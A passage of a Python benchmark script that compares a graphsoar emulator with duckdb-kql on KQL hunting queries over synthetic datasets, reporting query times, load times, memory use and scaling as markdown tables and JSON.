    return "—" if x is None else (f"{x:.3f}" if x < 10 else f"{x:.1f}")


def md_query(text: str) -> str:
    return "`" + text.replace("|", "\\|") + "`"


def cell_count(q: dict | None, key: str) -> str:
    if not q:
        return "—"
    if q.get("error"):
        return "error"
    mark = "" if q.get("ok") else " ✗"
    return f"{q['count']:,}{mark}"


def print_main(meta: dict, gs: dict | None, dk: dict | None, rows: int):
    print(f"\n### {rows:,} rows\n")
    print(f"Dataset: `{os.path.relpath(meta['dir'], ROOT)}`: {rows:,} rows, {meta['bytes'] / 1048576:,.0f} MiB of "
          f"JSONL; {meta['encoded']:,} with -EncodedCommand, {meta['devices']:,} devices, inner-join Count "
          f"{meta['join_count']:,}.\n")
    print("| query | graphsoar median (s) | duckdb-kql median (s) | ratio (duckdb/graphsoar) | "
          "graphsoar min–max (s) | duckdb-kql min–max (s) | answer (graphsoar / duckdb-kql) |")
    print("|---|---:|---:|---:|---:|---:|---|")
    for key, text in QUERIES.items():
        g = (gs or {}).get("queries", {}).get(key)
        d = (dk or {}).get("queries", {}).get(key)
        mg, md_ = med(g), med(d)
        ratio = f"{md_ / mg:.1f}×" if mg and md_ else "—"
        rg = f"{min(g['times']):.3f}–{max(g['times']):.3f}" if g and g.get("times") else "—"
        rd = f"{min(d['times']):.3f}–{max(d['times']):.3f}" if d and d.get("times") else "—"
        print(f"| ({key}) {md_query(text)} | {fmt_s(mg)} | {fmt_s(md_)} | {ratio} | {rg} | {rd} | "
              f"{cell_count(g, key)} / {cell_count(d, key)} |")
    print()
    print("| | graphsoar | duckdb-kql |")
    print("|---|---:|---:|")
    gl = f"{gs['load_seconds']:.2f} s (process start to listening)" if gs else "—"
    dl = f"{dk['load_seconds']:.2f} s (read_json into a table)" if dk else "—"
    print(f"| load | {gl} | {dl} |")
    gm = f"{mib(gs['hwm_after_load'])} VmHWM after load; {mib(gs.get('hwm_end'))} after the queries" if gs else "—"
    dm = (f"{mib(dk['rss_after_load'] - dk['rss_before'])} RSS added by the load (peak {mib(dk['hwm_load'])}); "
          f"{mib(dk.get('hwm_end'))} VmHWM after the queries" if dk else "—")
    print(f"| memory | {gm} | {dm} |")
    gb = (f"{(gs['hwm_after_load'] - gs['baseline_hwm']) / rows:,.0f} (VmHWM over an empty dataset's "
          f"{mib(gs['baseline_hwm'])})" if gs and gs.get("baseline_hwm") else
          (f"{gs['hwm_after_load'] / rows:,.0f} (VmHWM / rows)" if gs else "—"))
    db = f"{(dk['rss_after_load'] - dk['rss_before']) / rows:,.0f} (RSS added / rows)" if dk else "—"
    print(f"| bytes per row | {gb} | {db} |")
    if dk:
        tr = ", ".join(f"({k}) {q['translate_seconds'] * 1000:.0f} ms" for k, q in dk["queries"].items())
        print(f"\nOf duckdb-kql's times, KQL→SQL translation (pure Python, ANTLR; median after a first run) takes "
              f"{tr}; DuckDB ran with "
              f"{dk['threads']} threads.")


def print_scales(scales: list[int], results: dict):
    if not scales:
        return
    print("\n### Scaling: (a) and (b) at each size (medians, s)\n")
    print("| rows | graphsoar load (s) | graphsoar VmHWM | (a) graphsoar | (a) counted graphsoar | (b) graphsoar | "
          "duckdb-kql load (s) | duckdb-kql RSS added | (a) duckdb-kql | (a) counted duckdb-kql | (b) duckdb-kql |")
    print("|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|")
    for n in scales:
        r = results.get(n, {})
        g, d = r.get("graphsoar"), r.get("duckdb")
        gq = (g or {}).get("queries", {})
        dq = (d or {}).get("queries", {})
        print(f"| {n:,} | {fmt_s(g['load_seconds']) if g else r.get('graphsoar_note', '—')} | "
              f"{mib(g['hwm_after_load']) if g else '—'} | {fmt_s(med(gq.get('a')))} | {fmt_s(med(gq.get('a#')))} | {fmt_s(med(gq.get('b')))} | "
              f"{fmt_s(d['load_seconds']) if d else r.get('duckdb_note', '—')} | "
              f"{mib(d['rss_after_load'] - d['rss_before']) if d else '—'} | "
              f"{fmt_s(med(dq.get('a')))} | {fmt_s(med(dq.get('a#')))} | {fmt_s(med(dq.get('b')))} |")
    lines = []
    for prev, n in zip(scales, scales[1:]):
        parts = []
        for side in ("graphsoar", "duckdb"):
            for key in ("a", "a#", "b"):
                a = med(((results.get(prev, {}).get(side) or {}).get("queries") or {}).get(key))
                b = med(((results.get(n, {}).get(side) or {}).get("queries") or {}).get(key))
                if a and b:
                    parts.append(f"{'graphsoar' if side == 'graphsoar' else 'duckdb-kql'} ({key}) ×{b / a:.1f}")
        if parts:
            lines.append(f"- {prev:,} → {n:,} rows (×{n / prev:g}): " + ", ".join(parts))
    if lines:
        print("\nGrowth of the medians:\n")
        print("\n".join(lines))


def machine_line(binary: str | None) -> str:
    cores = os.cpu_count()
    total = 0
    with open("/proc/meminfo", encoding="ascii") as f:
        for line in f:
            if line.startswith("MemTotal:"):
                total = int(line.split()[1]) * 1024
    load = open("/proc/loadavg", encoding="ascii").read().split()[:3]
    parts = [f"{cores} cores", f"{total / 2**30:.1f} GiB", f"load average {' '.join(load)}",
             f"Python {platform.python_version()}"]
    try:
        import duckdb
        import duckdb_kql

        parts.append(f"duckdb {duckdb.__version__}, duckdb-kql {duckdb_kql.__version__}")
    except ImportError:
        parts.append("duckdb-kql not installed")
    if binary and os.path.exists(binary):
        try:
            v = subprocess.run([binary, "--version"], capture_output=True, text=True, timeout=10).stdout.strip()
            rel = os.path.relpath(binary, ROOT) if binary.startswith(ROOT) else binary
            parts.append(f"{v or 'graphsoar'} (`{rel}`)")
        except (OSError, subprocess.TimeoutExpired):
            pass
    try:
        rev = subprocess.run(["git", "-C", ROOT, "rev-parse", "--short", "HEAD"], capture_output=True,
                             text=True, timeout=10).stdout.strip()
        dirty = subprocess.run(["git", "-C", ROOT, "status", "--porcelain", "--untracked-files=no"],
                               capture_output=True, text=True, timeout=10).stdout.strip()
        if rev:
            parts.append(f"git {rev}{' (modified)' if dirty else ''}")
    except (OSError, subprocess.TimeoutExpired):
        pass
    return ", ".join(parts)


# --------------------------------------------------------------------------------------------
# Main
# --------------------------------------------------------------------------------------------


def reexec_under_venv():
    """Runs this script under target/duckdb-venv/bin/python when duckdb_kql is not importable here."""
    try:
        import duckdb_kql  # noqa: F401

        return
    except ImportError:
        pass
    venv = os.path.dirname(os.path.dirname(VENV_PYTHON))
    if os.path.exists(VENV_PYTHON) and os.path.realpath(sys.prefix) != os.path.realpath(venv):
        os.environ.setdefault("BENCH_HUNTING_COMMAND", "python3 " + shlex.join(sys.argv))
        os.execv(VENV_PYTHON, [VENV_PYTHON, os.path.abspath(__file__), *sys.argv[1:]])


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--rows", type=int, default=1_000_000, help="rows of the main comparison (default 1,000,000)")
    ap.add_argument("--runs", type=int, default=5, help="runs of each query (default 5)")
    ap.add_argument("--scales", default="100000,1000000,10000000",
                    help="row counts for the scaling table of (a) and (b); 'none' to skip")
    ap.add_argument("--graphsoar", default=os.path.join("target", "release", "graphsoar"),
                    help="the graphsoar binary (default target/release/graphsoar)")
    ap.add_argument("--tenant", type=int, help="also start `emulator --generate N` and report its start")
    ap.add_argument("--out", default=os.path.join(ROOT, "target", "bench-hunting"), help="where datasets go")
    ap.add_argument("--seed", type=int, default=20300101, help="generator seed")
    ap.add_argument("--duckdb-max-rows", type=int, default=1_000_000,
                    help="duckdb-kql runs at larger scales only when its estimated memory fits in half of "
                         "MemAvailable (default 1,000,000)")
    ap.add_argument("--max-rss-gib", type=float, default=20.0, help="stop graphsoar past this RSS (default 20)")
    ap.add_argument("--start-timeout", type=float, default=1800.0, help="seconds to wait for 'listening on'")
    ap.add_argument("--http-timeout", type=float, default=900.0, help="seconds per HTTP request")
    ap.add_argument("--json", help="also write every measurement here (default OUT/results-ROWS.json)")
    ap.add_argument("--duckdb-worker", help=argparse.SUPPRESS)
    ap.add_argument("--worker-queries", default="a,b,c", help=argparse.SUPPRESS)
    args = ap.parse_args(argv)

    if args.duckdb_worker:
        res = duckdb_worker(args.duckdb_worker, args.worker_queries.split(","), args.runs)
        print(json.dumps(res))
        return 0

    command = os.environ.get("BENCH_HUNTING_COMMAND") or "python3 " + shlex.join(sys.argv)
    args.max_rss = int(args.max_rss_gib * 2**30)
    binary = args.graphsoar if os.path.isabs(args.graphsoar) else os.path.join(ROOT, args.graphsoar)
    have_graphsoar = os.path.isfile(binary) and os.access(binary, os.X_OK)
    try:
        import duckdb_kql  # noqa: F401

        have_duckdb = True
    except ImportError:
        have_duckdb = False
    scales = [] if args.scales.strip().lower() in ("", "none") else [int(s) for s in args.scales.split(",")]

    def log(msg: str):
        print(f"[{time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)

    print("## Advanced hunting: graphsoar emulator vs duckdb-kql\n")
    print(f"Command: `{command}`\n")
    print(f"Machine: {machine_line(binary if have_graphsoar else None)}.\n")
    notes = []
    if not have_graphsoar:
        notes.append(f"graphsoar: no binary at `{os.path.relpath(binary, ROOT)}` (cargo build --release): "
                     f"its columns are empty.")
    if not have_duckdb:
        notes.append("duckdb-kql: not importable (python3 -m venv target/duckdb-venv && target/duckdb-venv/bin/pip "
                     "install -r tests/kql/duckdb/requirements.txt): its columns are empty.")
    for n in notes:
        print(f"> {n}\n")
    sys.stdout.flush()

    failures: list[str] = []
    results: dict = {"command": command, "rows": args.rows, "runs": args.runs, "scales": {}}
    baseline = None
    if have_graphsoar:
        empty = ensure_dataset(args.out, 0, args.seed, log)
        try:
            emu = Emulator(binary, ["--dataset", empty["dir"]], os.path.join(empty["dir"], "emulator.log"),
                           args.max_rss, args.start_timeout)
            baseline = emu.hwm_after_load
            emu.stop()
            log(f"graphsoar with an empty dataset: VmHWM {mib(baseline)}")
        except RuntimeError as e:
            failures.append(f"graphsoar (empty dataset): {e}")

    def measure(n: int, keys: list[str], duckdb_ok: bool) -> dict:
        meta = ensure_dataset(args.out, n, args.seed, log)
        entry: dict = {"meta": meta}
        if have_graphsoar:
            try:
                entry["graphsoar"] = run_graphsoar(binary, meta, keys, args.runs, args, log)
                entry["graphsoar"]["baseline_hwm"] = baseline
                for k, q in entry["graphsoar"]["queries"].items():
                    if not q["ok"]:
                        failures.append(f"graphsoar ({k}) at {n:,} rows: {check_failure(q)}")
            except RuntimeError as e:
                entry["graphsoar_note"] = "failed"
                failures.append(f"graphsoar at {n:,} rows: {e}")
        if have_duckdb and duckdb_ok:
            try:
                entry["duckdb"] = run_duckdb(meta, keys, args.runs, args, log)
                for k, q in entry["duckdb"]["queries"].items():
                    if not q["ok"]:
                        failures.append(f"duckdb-kql ({k}) at {n:,} rows: {check_failure(q)}")
                    g = (entry.get("graphsoar") or {}).get("queries", {}).get(k)
                    if g and g.get("count") is not None and q.get("count") is not None:
                        gs_count = g["count"]
                        dk_count = min(q["count"], GRAPH_MAX_ROWS) if k not in COUNTED else q["count"]
                        if gs_count != dk_count:
                            failures.append(f"({k}) at {n:,} rows: graphsoar answered {gs_count:,}, "
                                            f"duckdb-kql {q['count']:,}")
            except RuntimeError as e:
                entry["duckdb_note"] = "failed"
                failures.append(f"duckdb-kql at {n:,} rows: {e}")
        elif have_duckdb:
            entry["duckdb_note"] = "skipped (memory)"
        return entry

    bytes_per_row = None
    main_entry = measure(args.rows, list(QUERIES), True)
    results["main"] = main_entry
    if main_entry.get("duckdb"):
        d = main_entry["duckdb"]
        bytes_per_row = max(1.0, (d["hwm_end"] - d["rss_before"]) / max(1, args.rows))
    print_main(main_entry["meta"], main_entry.get("graphsoar"), main_entry.get("duckdb"), args.rows)
    sys.stdout.flush()

    for n in scales:
        if n == args.rows:
            results["scales"][n] = main_entry
            continue
        fits = n <= args.duckdb_max_rows or (bytes_per_row is not None and bytes_per_row * n < 0.5 * mem_available())
        results["scales"][n] = measure(n, ["a", "b", "a#"], fits)
        if results["scales"][n].get("duckdb"):
            d = results["scales"][n]["duckdb"]
            bytes_per_row = max(bytes_per_row or 1.0, (d["hwm_end"] - d["rss_before"]) / max(1, n))
    print_scales(scales, results["scales"])

    if args.tenant:
        if have_graphsoar:
            try:
                t = run_tenant(binary, args.tenant, args, log)
                results["tenant"] = t
                print(f"\n### Generated tenant\n\n| `emulator --generate {args.tenant}` | start to listening | VmHWM |\n"
                      f"|---|---:|---:|\n| {args.tenant:,} alerts | {t['load_seconds']:.2f} s | {mib(t['hwm'])} |")
            except RuntimeError as e:
                failures.append(f"graphsoar --generate {args.tenant}: {e}")
        else:
            print(f"\n(--tenant {args.tenant}: no graphsoar binary)")

    print("\nNotes: graphsoar times are full HTTP round trips on loopback (request sent to body read, "
          "keep-alive, one client), with GRAPHSOAR_LOG=warn; Graph cuts results at 100,000 rows, so (a) "
          "counts at most that many. duckdb-kql times are `duckdb_kql.query(con, kql).fetchall()` in process "
          "(translation included). Load: graphsoar from process start to its 'listening on' line; duckdb-kql "
          "the `read_json` into an in-memory table. Memory: graphsoar's VmHWM, duckdb-kql's RSS growth over "
          "the loaded child process.")
    if failures:
        print("\nChecks that failed:\n")
        for f in failures:
            print(f"- {f}")
    json_path = args.json or os.path.join(args.out, f"results-{args.rows}.json")
    os.makedirs(os.path.dirname(os.path.abspath(json_path)), exist_ok=True)
    with open(json_path, "w", encoding="utf-8") as f:
        json.dump(results, f, indent=1, default=str)
    log(f"measurements written to {json_path}")
    return 1 if failures else 0


if __name__ == "__main__":
    if "--duckdb-worker" not in sys.argv:
        reexec_under_venv()
    sys.exit(main())
